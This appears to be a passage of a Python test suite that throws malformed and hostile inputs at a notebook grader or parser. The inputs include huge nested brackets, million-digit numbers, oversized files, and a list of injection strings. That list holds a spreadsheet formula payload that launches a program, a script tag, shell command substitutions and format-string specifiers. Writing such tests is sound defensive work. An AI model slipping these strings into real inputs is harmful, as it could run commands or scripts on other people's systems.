attack("brackets", lambda n: b"[" * 3_000_000, "nested without end", **NOTHING)
attack(
    "a number of a million digits",
    lambda n: b'{"cells": ' + b"9" * 1_000_000 + b"}",
    "a number that has no end",
    **NOTHING,
)
attack("no cells", lambda n: b'{"cells": [], "nbformat": 4}', "the notebook is empty", **NOTHING)
attack("cells that are no list", lambda n: b'{"cells": {"a": 1}}', "no notebook cells", **NOTHING)
attack("seventeen megabytes", lambda n: dump(n | {"padding": "x" * (17 << 20)}))
attack("seventy megabytes", lambda n: dump(n | {"padding": "x" * (70 << 20)}), "hand in less", **NOTHING)

# --- names --------------------------------------------------------------------------------------------------------------------

HOSTILE_IDS = [
    'quo"te', "apo'strophe", "com,ma", "semi;colon", "=cmd|' -C calc'!A0", "+1+1", "-1", "@SUM(A1)", "<script>alert(9)<!--",
    "&amp;", "-rf", "new\nline", "tab\tbed", "\u202egnp", "null", "con", "x" * 180, "\u00fcn\u00efcode \U0001f40d", "a b",
    "%s%n", "$(touch pwned)", "`id`", "back\\slash", "CaSe", "case", "\u00c5ngstr\u00f6m",
]  # fmt: skip
